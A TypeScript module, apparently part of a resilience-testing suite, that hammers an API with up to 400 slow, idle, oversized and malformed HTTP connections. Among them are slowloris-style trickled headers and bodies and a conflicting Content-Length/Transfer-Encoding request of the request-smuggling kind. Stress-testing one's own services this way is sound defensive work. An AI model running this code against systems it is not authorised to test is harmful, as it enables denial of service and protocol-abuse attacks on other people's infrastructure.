// Connections to the API that ask for nothing, ask slowly, or break the rules of HTTP.

import type { Socket } from 'node:net';
import type { Attack, Counts } from '../attack.ts';
import { get, openRaw, pause } from './raw-http.ts';

const CONNECTIONS = 400;
const OPENED_PER_SECOND = 40;
const TRICKLE_MS = 1000;

export const attack: Attack = {
  name: 'A2 connections to the API',
  async run({ api }, signal) {
    const counts: Counts = { opened: 0, refused: 0, closed: 0, answered: 0 };
    const count = (name: string) => {
      counts[name] = (counts[name] ?? 0) + 1;
    };
    const host = `Host: ${new URL(api).host}`;
    const kinds: ((round: number) => string)[] = [
      () => '', // Idle.
      () => `GET / HTTP/1.1\r\n${host}\r\nX-Slow: `, // A head that never ends.
      () => `POST /graphql HTTP/1.1\r\n${host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
      () => get(api, '/graphql?query=%7B__typename%7D').repeat(300), // More than anybody reads.
      (round) => malformed[round % malformed.length] ?? '',
    ];
    const malformed = [
      'nonsense\r\n\r\n',
      `GET / HTTP/1.1\r\n${host}\r\n${host}\r\n\r\n`,
      `GET / HTTP/1.1\r\nX: ${'x'.repeat(40_000)}\r\n\r\n`,
      `POST /graphql HTTP/1.1\r\n${host}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n`,
      `GET /\u0000 HTTP/1.1\r\n${host}\r\n\r\n`,
      '\u0016\u0003\u0001\u0002\u0000\u0001',
      `POST /graphql HTTP/1.1\r\n${host}\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n`,
    ];
    const open = new Set<Socket>();
    const trickle = setInterval(() => {
      for (const socket of open) if (socket.writable) socket.write('x');
    }, TRICKLE_MS);
    for (let round = 0; !signal.aborted; round++) {
      if (open.size < CONNECTIONS) {
        const kind = kinds[round % kinds.length];
        const socket = await openRaw(api, kind?.(Math.floor(round / kinds.length)) ?? '');
        if (socket) {
          count('opened');
          open.add(socket);
          socket.once('data', () => count('answered')).resume();
          socket.once('close', () => {
            count('closed');
            open.delete(socket);
          });
        } else count('refused');
      }
      await pause(1000 / OPENED_PER_SECOND, signal);
    }
    clearInterval(trickle);
    for (const socket of open) socket.destroy();
    return counts;
  },
};
